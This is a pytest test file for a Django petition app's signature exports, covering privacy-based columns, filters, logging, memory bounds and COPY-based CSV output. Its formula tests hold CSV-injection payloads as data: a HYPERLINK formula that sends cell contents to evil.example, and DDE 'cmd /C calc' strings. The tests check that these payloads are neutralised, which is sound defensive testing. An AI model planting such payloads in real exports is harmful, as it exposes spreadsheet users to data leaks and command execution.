"""Exports: exactly the columns the visibility table allows, formulas made inert, constant
memory however long the list, every export logged, and the same export from the command line."""

import csv
import io
import json
import tracemalloc
from datetime import UTC, datetime, timedelta

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from lib import addresses
from petition import exports, services
from petition.models import ExportRecord, Organiser, Signature

pytestmark = pytest.mark.django_db

BASE = [
    "id",
    "signed_at",
    "verified_at",
    "status",
    "hidden",
    "hidden_reason",
    "level",
    "version",
    "language",
    "verified_employee",
]
IDENTITY = ["name", "email", "employer_domain", "wants_updates"]
DETAILS = ["affiliation", "job_title", "team", "city"]
EVERYTHING = {"affiliation": "Acme", "job_title": "Engineer", "team": "Search", "city": "Leeds"}


def signed(letter, email, *, verify=True, **fields):
    data = {"name": "", "visibility": "public", **fields}
    services.sign(letter=letter, email=email, **data)
    signature = Signature.objects.get(letter=letter, email_hash=addresses.email_hash(email))
    if verify:
        services.verify(signature_id=signature.pk)
        signature.refresh_from_db()
    return signature


@pytest.fixture
def signers(letter):
    """One signer per level, each giving every detail but ticking only some."""
    signed(letter, "pub@example.com", name="Pat Public", show_team=True, **EVERYTHING)
    signed(
        letter,
        "anon@example.com",
        name="Ann Anon",
        visibility="anonymous",
        show_city=True,
        **{**EVERYTHING, "affiliation": "ANONAFF", "job_title": "ANONJOB", "team": "ANONTEAM"},
    )
    signed(
        letter,
        "priv@example.com",
        name="PRIVNAME",
        visibility="private",
        show_job_title=True,
        **{**EVERYTHING, "affiliation": "PRIVAFF", "team": "PRIVTEAM", "city": "PRIVCITY"},
    )
    # Still pending: the private signer's name and address are held until confirmation.
    signed(
        letter,
        "pendpriv@example.com",
        name="PENDPRIVNAME",
        visibility="private",
        verify=False,
        city="PENDCITY",
    )
    return letter


def export(client, letter, **data):
    data = {"format": "csv", "status": "all", **data}
    response = client.post(reverse("organiser:export_download", args=[letter.slug]), data)
    assert response.status_code == 200, response.content[:500]
    return response


def content(response) -> bytes:
    return b"".join(response.streaming_content)


def csv_rows(response) -> tuple[list[str], list[dict]]:
    return parse_csv(content(response))


def parse_csv(raw: bytes) -> tuple[list[str], list[dict]]:
    reader = csv.reader(io.StringIO(raw.decode("utf-8-sig")))
    header = next(reader)
    return header, [dict(zip(header, row, strict=True)) for row in reader]


def xlsx_rows(response) -> tuple[list[str], list[dict]]:
    sheet = load_workbook(io.BytesIO(content(response)), read_only=True).active
    values = [list(row) for row in sheet.iter_rows(values_only=True)]
    header = values[0]
    # An empty cell is read back as None, and a row's trailing empty cells not at all.
    return header, [
        dict(zip(header, ["" if v is None else v for v in row] + [""] * (len(header) - len(row))))
        for row in values[1:]
    ]


@pytest.fixture
def editor_client(client, organiser):
    client.force_login(organiser)
    return client


# --- The privacy table, column by column ----------------------------------------------------------


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_public_export_holds_everything_the_signer_gave(editor_client, signers, format):
    response = export(editor_client, signers, level="public", format=format)
    header, rows = (csv_rows if format == "csv" else xlsx_rows)(response)
    assert header == BASE + IDENTITY + DETAILS
    (row,) = rows
    assert (row["name"], row["email"]) == ("Pat Public", "pub@example.com")
    assert {k: row[k] for k in DETAILS} == EVERYTHING, "unticked details included for public"


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_anonymous_export_holds_name_email_and_only_the_ticked_details(
    editor_client, signers, format
):
    response = export(editor_client, signers, level="anonymous", format=format)
    header, rows = (csv_rows if format == "csv" else xlsx_rows)(response)
    assert header == BASE + IDENTITY + DETAILS
    (row,) = rows
    assert (row["name"], row["email"]) == ("Ann Anon", "anon@example.com")
    assert row["city"] == "Leeds"
    assert row["affiliation"] == row["job_title"] == row["team"] == ""


@pytest.mark.parametrize("format", ["csv", "xlsx", "json"])
def test_private_export_has_no_name_or_email_column_and_only_ticked_details(
    editor_client, signers, format
):
    response = export(editor_client, signers, level="private", format=format)
    raw = content(response)
    for secret in (
        b"PRIVNAME",
        b"priv@example.com",
        b"PENDPRIVNAME",
        b"pendpriv@",
        b"PRIVAFF",
        b"PRIVTEAM",
        b"PRIVCITY",
        b"PENDCITY",
    ):
        assert secret not in raw, secret
    if format == "json":
        rows = json.loads(raw)["signatures"]
        assert all(set(row) == set(BASE + DETAILS) for row in rows)
        assert sorted(row["job_title"] or "" for row in rows) == ["", "Engineer"]
        assert [row["job_title"] for row in rows if row["job_title"] != "Engineer"] == [None]
    else:
        response.streaming_content = iter([raw])
        header, rows = (csv_rows if format == "csv" else xlsx_rows)(response)
        assert header == BASE + DETAILS
        assert sorted(row["job_title"] for row in rows) == ["", "Engineer"]


def test_mixed_export_blanks_what_each_row_may_not_show(editor_client, signers):
    header, rows = csv_rows(export(editor_client, signers))
    assert header == BASE + IDENTITY + DETAILS
    by_level = {}
    for row in rows:
        by_level.setdefault(row["level"], []).append(row)
    assert all(r["name"] == r["email"] == "" for r in by_level["private"])
    assert len(by_level["private"]) == 2, "the pending private signature is listed, nameless"
    assert by_level["anonymous"][0]["team"] == ""
    assert by_level["public"][0]["team"] == "Search"


def test_json_export_follows_the_same_table(editor_client, signers):
    data = json.loads(content(export(editor_client, signers, format="json")))
    assert data["letter"] == signers.slug
    by_email = {row.get("email"): row for row in data["signatures"]}
    assert by_email["anon@example.com"]["team"] is None  # hidden: null, not ""
    assert by_email["pub@example.com"]["team"] == "Search"
    assert by_email["pub@example.com"]["hidden"] is False
    assert all("PRIV" not in json.dumps(row) for row in data["signatures"])


# --- Formulas ---------------------------------------------------------------------------------

FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "job_title": "+1+cmd|' /C calc'!A0",
    "team": "-2+3",
    "city": "@SUM(1+1)*cmd|' /C calc'!A0",
    "affiliation": "\t=1+1",
}


@pytest.fixture
def formula_signer(letter):
    signature = signed(letter, "=cmd@example.com", name="x", visibility="public")
    # Straight into the row: the sign form would have trimmed the tab and the carriage return.
    Signature.objects.filter(pk=signature.pk).update(**FORMULAS)
    signed(letter, "cr@example.com", name="y")
    Signature.objects.filter(email="cr@example.com").update(name="\r=2+2")
    return letter


def test_neutralise_prefixes_every_formula_start():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert exports.neutralise(start + "1") == "'" + start + "1"
    assert exports.neutralise("Ada") == "Ada"
    assert exports.neutralise("") == ""


def test_formula_cells_are_neutralised_in_csv(editor_client, formula_signer):
    _, rows = csv_rows(export(editor_client, formula_signer))
    row = next(r for r in rows if r["email"] == "'=cmd@example.com")
    for field, value in FORMULAS.items():
        assert row[field] == "'" + value
    assert next(r for r in rows if r["email"] == "cr@example.com")["name"] == "'\r=2+2"


def test_formula_cells_are_neutralised_in_xlsx(editor_client, formula_signer):
    response = export(editor_client, formula_signer, format="xlsx")
    sheet = load_workbook(io.BytesIO(content(response))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [c for c in cells if c.data_type == "f"], "a cell was stored as a formula"
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    # Stored as text cells, as typed (no apostrophe shown), and marked to stay text when edited.
    # XML reads a carriage return back as a newline.
    for value in [*FORMULAS.values(), "=cmd@example.com", "\n=2+2"]:
        assert value in texts, value
        assert texts[value].data_type == "s" and texts[value].quotePrefix, value
    assert not [text for text in texts if text.startswith("'")]


# --- Filters --------------------------------------------------------------------------------


def test_filters_by_status_version_and_date(editor_client, signers, organiser):
    letter = signers
    services.edit_letter(
        letter_id=letter.pk,
        actor=organiser,
        title=letter.title,
        addressee=letter.addressee,
        body="A second version.",
    )
    signed(letter, "v2@example.com", name="Second Version")
    _, rows = csv_rows(export(editor_client, letter, version="2"))
    assert [r["email"] for r in rows] == ["v2@example.com"]
    _, rows = csv_rows(export(editor_client, letter, status="pending"))
    assert [r["level"] for r in rows] == ["private"]
    Signature.objects.filter(email="pub@example.com").update(
        created_at=timezone.now() - timedelta(days=10)
    )
    yesterday = (timezone.now() - timedelta(days=1)).date().isoformat()
    _, rows = csv_rows(export(editor_client, letter, status="counted", signed_from=yesterday))
    assert "pub@example.com" not in [r["email"] for r in rows] and len(rows) == 3
    _, rows = csv_rows(export(editor_client, letter, status="counted", signed_to=yesterday))
    assert [r["email"] for r in rows] == ["pub@example.com"]


def test_counted_filter_leaves_out_hidden_withdrawn_and_pending(editor_client, signers):
    hidden = Signature.objects.get(email="pub@example.com")
    services.hide_signature(letter_id=signers.pk, signature_id=hidden.pk, actor=None, reason="spam")
    _, rows = csv_rows(export(editor_client, signers, status="counted"))
    assert sorted(r["level"] for r in rows) == ["anonymous", "private"]
    _, rows = csv_rows(export(editor_client, signers, status="hidden"))
    assert [(r["email"], r["hidden"], r["hidden_reason"]) for r in rows] == [
        ("pub@example.com", "yes", "spam")
    ]


def test_bad_filters_get_a_message_not_an_error(editor_client, letter):
    response = editor_client.post(
        reverse("organiser:export_download", args=[letter.slug]),
        {"format": "pdf", "status": "all", "signed_from": "2024-05-02", "signed_to": "2024-05-01"},
    )
    assert response.status_code == 400
    assert b"Select a valid choice" in response.content
    assert not ExportRecord.objects.exists()


# --- The log ----------------------------------------------------------------------------------


def test_every_export_is_recorded_and_shown_to_all_organisers(
    client, editor_client, signers, django_user_model
):
    export(editor_client, signers, format="xlsx", level="anonymous")
    record = ExportRecord.objects.get()
    assert record.user.email == "organiser@example.org"
    assert (record.format, record.what, record.rows) == ("xlsx", "signatures", 1)
    assert record.filters == {"status": "all", "level": "anonymous"}
    viewer = django_user_model.objects.create_user(email="v@example.org", password=None)
    Organiser.objects.create(letter=signers, user=viewer, role="viewer")
    client.force_login(viewer)
    page = client.get(reverse("organiser:exports", args=[signers.slug])).content.decode()
    assert "organiser@example.org" in page and "level: anonymous" in page


def test_export_is_streamed_and_not_buffered_by_a_proxy(editor_client, signers):
    response = export(editor_client, signers)
    assert response.streaming
    assert response["X-Accel-Buffering"] == "no"
    assert response["Cache-Control"] == "no-store"
    assert response["Content-Disposition"].startswith(f'attachment; filename="{signers.slug}-')


def test_the_export_is_a_management_command_and_is_logged(signers, tmp_path):
    out = tmp_path / "export.json"
    call_command(
        "export_signatures",
        signers.slug,
        "--format",
        "json",
        "--level",
        "private",
        "--status",
        "all",
        "--output",
        str(out),
    )
    rows = json.loads(out.read_text())["signatures"]
    assert len(rows) == 2 and all("email" not in row for row in rows)
    record = ExportRecord.objects.get()
    assert record.user is None and record.rows == 2 and record.filters["level"] == "private"


def test_co_signatures_export(editor_client, letter, organiser):
    from accounts.models import Organisation
    from petition.models import CoSignature

    org = Organisation.objects.create(name="=Evil Org", slug="evil-org")
    CoSignature.objects.create(
        letter=letter,
        organisation=org,
        display_name="=Evil Org",
        sort_key="evil org",
        status="approved",
        requested_by=organiser,
        statement="We agree.",
    )
    response = editor_client.post(
        reverse("organiser:export_download", args=[letter.slug]),
        {"what": "cosignatures", "co-format": "csv", "co-status": "approved"},
    )
    assert response.status_code == 200
    header, rows = csv_rows(response)
    assert header == exports.COSIGN_COLUMNS
    assert rows[0]["listed_as"] == "'=Evil Org"
    assert rows[0]["contact_email"] == "organiser@example.org"
    assert ExportRecord.objects.get().what == "cosignatures"


# --- Memory -----------------------------------------------------------------------------------

ROWS = 100_000
PEAK_BOUND = 8 * 1024 * 1024


def test_a_100000_signature_csv_export_streams_in_bounded_memory(editor_client, letter):
    many_signatures(
        letter,
        ROWS,
        affiliation="Example Corporation",
        job_title="Software engineer",
        team="Platform",
        city="Manchester",
    )
    response = export(editor_client, letter, status="counted")
    tracemalloc.start()
    try:
        total = lines = 0
        for chunk in response.streaming_content:
            total += len(chunk)
            lines += chunk.count(b"\n")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    print(f"CSV export: {total / 1e6:.1f} MB streamed, peak traced memory {peak / 1e6:.2f} MB")
    assert lines == ROWS + 1
    assert peak < PEAK_BOUND, f"peak {peak / 1e6:.1f} MB for a {total / 1e6:.1f} MB file"
    assert total > 2 * PEAK_BOUND, "the file is larger than the bound: it was never held whole"
    assert ExportRecord.objects.get().rows == ROWS


# --- A real server: the stream outlives the worker timeout ---------------------------------------


@pytest.mark.slow
@pytest.mark.django_db(transaction=True)
def test_a_slow_download_is_not_cut_off_by_gunicorns_worker_timeout(organiser, make_letter):
    """gunicorn with gthread workers (as the Dockerfile runs it) and a 5-second --timeout: a
    client reading a long CSV slowly keeps the request busy for more than twice that, and still
    gets every row. With sync workers the arbiter kills the worker mid-stream (tried by hand:
    IncompleteRead). Not shorter than 5 s: gunicorn 27's gthread main loop itself may go three
    seconds without a heartbeat while it lingers closing a finished connection."""
    import http.cookiejar
    import os
    import re
    import subprocess
    import sys
    import time
    import urllib.parse
    import urllib.request

    from django.conf import settings
    from django.test import Client

    from tests.conftest import ROOT, free_port, wait_for

    letter = make_letter()
    rows = 100_000
    many_signatures(letter, rows, city="Manchester")
    client = Client()
    client.force_login(organiser)
    session = client.cookies[settings.SESSION_COOKIE_NAME].value

    db = settings.DATABASES["default"]
    port = free_port()
    env = {
        **os.environ,
        "DATABASE_URL": f"postgres://{db['USER']}@{db['HOST']}:{db['PORT'] or 5432}/{db['NAME']}",
        "SITE_URL": f"http://127.0.0.1:{port}",
        "DEBUG": "0",
        "STATIC_MANIFEST": "0",
        "SECRET_KEY": settings.SECRET_KEY,
        "REDIS_URL": "",
    }
    server = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "gunicorn",
            "config.wsgi",
            "--bind",
            f"127.0.0.1:{port}",
            "--workers",
            "1",
            "--worker-class",
            "gthread",
            "--threads",
            "2",
            "--timeout",
            "5",
        ],
        cwd=ROOT,
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        base = f"http://127.0.0.1:{port}"
        jar = http.cookiejar.CookieJar()
        opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(jar))
        opener.addheaders = [("Cookie", f"{settings.SESSION_COOKIE_NAME}={session}")]

        def page():
            try:
                return opener.open(f"{base}/manage/{letter.slug}/exports/", timeout=5).read()
            except OSError:
                return None

        html = wait_for(page, 30, 0.2, "gunicorn").decode()
        token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', html).group(1)
        csrf_cookie = next(c.value for c in jar if c.name == settings.CSRF_COOKIE_NAME)
        opener.addheaders = [
            (
                "Cookie",
                f"{settings.SESSION_COOKIE_NAME}={session}; "
                f"{settings.CSRF_COOKIE_NAME}={csrf_cookie}",
            )
        ]
        data = urllib.parse.urlencode(
            {
                "csrfmiddlewaretoken": token,
                "what": "signatures",
                "format": "csv",
                "status": "counted",
            }
        ).encode()
        started = time.monotonic()
        received = b""
        with opener.open(f"{base}/manage/{letter.slug}/exports/download/", data, timeout=30) as r:
            while block := r.read(64 * 1024):
                received += block
                time.sleep(0.05)  # a slow client: the server waits on the socket meanwhile
        elapsed = time.monotonic() - started
    finally:
        server.terminate()
        _, errors = server.communicate(timeout=10)
    assert elapsed > 10, f"the download took {elapsed:.1f}s: not long enough to prove anything"
    assert received.count(b"\n") == rows + 1, errors[-2000:]
    assert "WORKER TIMEOUT" not in errors


# --- PostgreSQL's COPY makes the same file as the Python path -----------------------------------

TRICKY = [
    "=cmd",
    "+1",
    "-x",
    "@x",
    "\tx",
    "\rx",
    "a,b",
    'say "hi"',
    '"',
    "line\nbreak",
    "crlf\r\ninside",
    "ends with a newline\n",
    "Zoë Ó'Brien, 日本語 🙂",
    "",
    " leading space",
    "'already quoted",
    "\\.",
    "\\N",
    "plain",
]


@pytest.fixture
def every_kind(letter, organiser):
    """Signatures of every level, status and tick, hidden or not, on two versions and none,
    holding text a CSV writer or a spreadsheet could trip on."""
    services.edit_letter(
        letter_id=letter.pk,
        actor=organiser,
        title=letter.title,
        addressee=letter.addressee,
        body="A second version.",
    )
    versions = [*letter.versions.order_by("number"), None]
    base = timezone.now().replace(microsecond=999_999)
    signatures = []
    n = 0
    for level in ("public", "anonymous", "private"):
        for status in ("verified", "pending", "withdrawn"):
            for hidden in (False, True):
                for ticks in range(4):
                    text = TRICKY[n % len(TRICKY) :] + TRICKY[: n % len(TRICKY)]
                    holds_identity = level != "private"  # a private row never holds one
                    signatures.append(
                        Signature(
                            letter=letter,
                            version=versions[n % len(versions)],
                            name=text[0] if holds_identity else "",
                            email=f"{text[1]}{n}@example.com" if holds_identity else "",
                            email_hash=f"{n:064x}",
                            affiliation=text[2],
                            job_title=text[3],
                            team=text[4],
                            city=text[5],
                            show_affiliation=bool(ticks & 1),
                            show_job_title=bool(ticks & 2),
                            show_team=ticks == 3,
                            show_city=ticks == 0,
                            visibility=level,
                            status=status,
                            is_hidden=hidden,
                            hidden_reason=text[6] if hidden else "",
                            is_verified_employee=bool(n % 2),
                            employer_domain=text[7] if n % 3 else "example.com",
                            wants_updates=bool(n % 5),
                            verified_at=None if status == "pending" else base - timedelta(hours=n),
                        )
                    )
                    n += 1
    Signature.objects.bulk_create(signatures)
    for n, signature in enumerate(Signature.objects.filter(letter=letter).order_by("pk")):
        # Microseconds are cut, not rounded; days apart for the date filters.
        Signature.objects.filter(pk=signature.pk).update(
            created_at=base - timedelta(days=n % 7, seconds=n)
        )
    return letter


def python_csv(letter, filters) -> bytes:
    return b"".join(exports.csv_chunks(*exports.signature_rows(letter, filters)))


def both_ways(letter, filters) -> tuple[bytes, bytes]:
    return b"".join(exports.copy_csv_chunks(letter, filters)), python_csv(letter, filters)


@pytest.mark.parametrize("level", ["", "public", "anonymous", "private"])
@pytest.mark.parametrize("status", ["all", "counted", "verified", "hidden", "pending", "withdrawn"])
def test_copy_makes_the_same_bytes_as_the_python_path(every_kind, status, level):
    by_copy, by_python = both_ways(every_kind, exports.Filters(status=status, level=level))
    assert by_copy == by_python
    assert by_copy.startswith("\ufeff".encode() + b"id,signed_at,verified_at,")
    assert by_copy.count(b"\r\n") > 1, "no rows: the comparison proves nothing"


def test_copy_makes_the_same_bytes_for_every_tricky_value(every_kind):
    by_copy, by_python = both_ways(every_kind, exports.Filters(status="all"))
    assert by_copy == by_python
    _, rows = parse_csv(by_copy)
    assert len(rows) == 72
    cells = {value for row in rows for value in row.values()}
    for value in ("'=cmd", "'+1", "'-x", "'@x", "'\tx", "'\rx", "a,b", 'say "hi"', "line\nbreak"):
        assert value in cells, value
    assert "crlf\r\ninside" in cells and "Zoë Ó'Brien, 日本語 🙂" in cells
    assert {"yes", "no"} <= {row["hidden"] for row in rows}
    assert "" in {row["verified_at"] for row in rows} and "" in {row["version"] for row in rows}
    assert {row["version"] for row in rows} == {"", "1", "2"}
    signed_at = rows[0]["signed_at"]
    assert signed_at.endswith("+00:00") and len(signed_at) == len("2026-11-23T11:06:07+00:00")
    assert all(row["name"] == row["email"] == "" for row in rows if row["level"] == "private")
    # COPY writes an empty string as "" (to tell it from NULL); csv.writer writes nothing.
    assert b',"",' not in by_copy and b',""\r\n' not in by_copy


def test_copy_makes_the_same_bytes_with_version_and_date_filters(every_kind):
    today = timezone.now().date()
    for filters in (
        exports.Filters(status="all", version=2),
        exports.Filters(status="all", level="anonymous", version=1),
        exports.Filters(status="all", signed_from=today - timedelta(days=2)),
        exports.Filters(status="all", signed_to=today - timedelta(days=3)),
        exports.Filters(
            status="counted",
            level="public",
            signed_from=today - timedelta(days=5),
            signed_to=today - timedelta(days=1),
        ),
    ):
        by_copy, by_python = both_ways(every_kind, filters)
        assert by_copy == by_python, filters
        assert by_copy.count(b"\r\n") > 1, filters


def test_copy_makes_the_same_bytes_across_chunks(letter):
    version = letter.versions.get()
    Signature.objects.bulk_create(
        Signature(
            letter=letter,
            version=version,
            name=TRICKY[n % len(TRICKY)],
            email=f"s{n}@example.com",
            email_hash=f"{n:064x}",
            city=TRICKY[-n % len(TRICKY)],
            visibility="public",
            status="verified",
            verified_at=timezone.now(),
        )
        for n in range(3 * exports.SEND_ROWS + 7)
    )
    filters = exports.Filters(status="counted")
    chunks = list(exports.copy_csv_chunks(letter, filters))
    assert len(chunks) == 1 + 4, "the header, then SEND_ROWS rows a chunk"
    assert b"".join(chunks) == python_csv(letter, filters)


def test_copy_of_no_rows_is_the_header_alone(letter):
    by_copy, by_python = both_ways(letter, exports.Filters(status="all", level="private"))
    assert (
        by_copy
        == by_python
        == "\ufeff".encode() + b",".join(column.encode() for column in BASE + DETAILS) + b"\r\n"
    )


def test_the_command_writes_the_same_csv(every_kind, tmp_path):
    out = tmp_path / "export.csv"
    call_command("export_signatures", every_kind.slug, "--status", "all", "--output", str(out))
    assert out.read_bytes() == python_csv(every_kind, exports.Filters(status="all"))


def test_the_signature_csv_is_made_by_copy_on_postgresql(editor_client, signers):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as queries:
        raw = content(export(editor_client, signers))
    copies = [q["sql"] for q in queries if q["sql"].startswith("COPY (")]
    assert len(copies) == 1 and "TO STDOUT WITH (FORMAT csv" in copies[0]
    assert raw == python_csv(signers, exports.Filters(status="all"))


def test_other_databases_keep_the_python_path(editor_client, signers, monkeypatch):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    monkeypatch.setattr(connection, "vendor", "sqlite")
    with CaptureQueriesContext(connection) as queries:
        raw = content(export(editor_client, signers))
    assert not [q for q in queries if q["sql"].startswith("COPY")]
    monkeypatch.undo()
    assert raw == b"".join(exports.copy_csv_chunks(signers, exports.Filters(status="all")))


# --- A download broken off leaves the connection usable -------------------------------------------


# Enough that PostgreSQL is still sending (blocked on a full socket) when the client goes.
ROWS_TO_BREAK_OFF = 50 * exports.SEND_ROWS


def many_signatures(letter, rows=ROWS_TO_BREAK_OFF, **fields):
    """`rows` verified public signatures, made in bulk (no mail, no log)."""
    version = letter.versions.get()
    Signature.objects.bulk_create(
        (
            Signature(
                letter=letter,
                version=version,
                name=f"Signer number {n}",
                email=f"signer{n}@example.com",
                email_hash=f"{n:064x}",
                visibility="public",
                status="verified",
                verified_at=timezone.now(),
                **fields,
            )
            for n in range(rows)
        ),
        batch_size=5000,
    )


def read_two_chunks_then_go_away(letter):
    """The view's response, read as a WSGI server reads it until the client disconnects: it
    stops reading and closes the response (here without `close_old_connections`, which would
    drop a connection in the test's transaction and hide what the export left behind)."""
    from django.core.signals import request_finished
    from django.db import close_old_connections, connection

    from petition.views.organiser.exports import export_response

    response = export_response(letter, "signatures", "csv", exports.Filters(status="counted"))
    stream = iter(response)
    assert next(stream).startswith("\ufeff".encode())
    assert next(stream).count(b"\r\n") == exports.SEND_ROWS
    assert connection.connection.info.transaction_status.name == "ACTIVE", "not copying"
    request_finished.disconnect(close_old_connections)
    try:
        response.close()
    finally:
        request_finished.connect(close_old_connections)


def test_a_broken_off_download_leaves_the_transaction_usable(letter):
    from django.db import connection

    many_signatures(letter)
    read_two_chunks_then_go_away(letter)
    # The copy was cancelled within a savepoint, rolled back: the test's transaction goes on.
    assert connection.connection.info.transaction_status.name == "INTRANS"
    assert Signature.objects.filter(letter=letter).count() == ROWS_TO_BREAK_OFF


@pytest.mark.django_db(transaction=True)
def test_a_broken_off_download_leaves_the_connection_idle(client, organiser, letter):
    from django.db import connection

    many_signatures(letter)
    read_two_chunks_then_go_away(letter)
    assert connection.connection.info.transaction_status.name == "IDLE"
    assert not connection.in_atomic_block and connection.get_autocommit()
    assert Signature.objects.filter(letter=letter).count() == ROWS_TO_BREAK_OFF
    # And a whole download afterwards, on the same connection.
    client.force_login(organiser)
    lines = content(export(client, letter, status="counted")).count(b"\r\n")
    assert lines == 1 + ROWS_TO_BREAK_OFF


# --- Typed XLSX and JSON ---------------------------------------------------------------------


def test_xlsx_cells_are_typed(editor_client, signers):
    response = export(editor_client, signers, format="xlsx", level="public")
    header, (row,) = xlsx_rows(response)
    signature = Signature.objects.get(email="pub@example.com")
    assert row["version"] == 1 and isinstance(row["version"], int)
    signed_at = signature.created_at.astimezone(UTC).replace(tzinfo=None)
    assert isinstance(row["signed_at"], datetime)
    assert abs(row["signed_at"] - signed_at) < timedelta(seconds=1)
    assert isinstance(row["verified_at"], datetime)
    assert row["hidden"] is False and row["verified_employee"] is True
    assert row["name"] == "Pat Public" and row["team"] == "Search"


def test_json_is_typed_with_null_where_the_table_hides_a_value(editor_client, signers):
    data = json.loads(content(export(editor_client, signers, format="json")))
    rows = data["signatures"]
    private = [row for row in rows if row["level"] == "private"]
    assert private and all(
        row["name"] is None and row["email"] is None and row["wants_updates"] is None
        for row in private
    )
    public = next(row for row in rows if row["level"] == "public")
    assert public["wants_updates"] is False and public["version"] == 1
    assert public["verified_employee"] is True
    assert datetime.fromisoformat(public["signed_at"]).tzinfo is not None
    pending = next(row for row in private if row["status"] == "pending")
    assert pending["verified_at"] is None
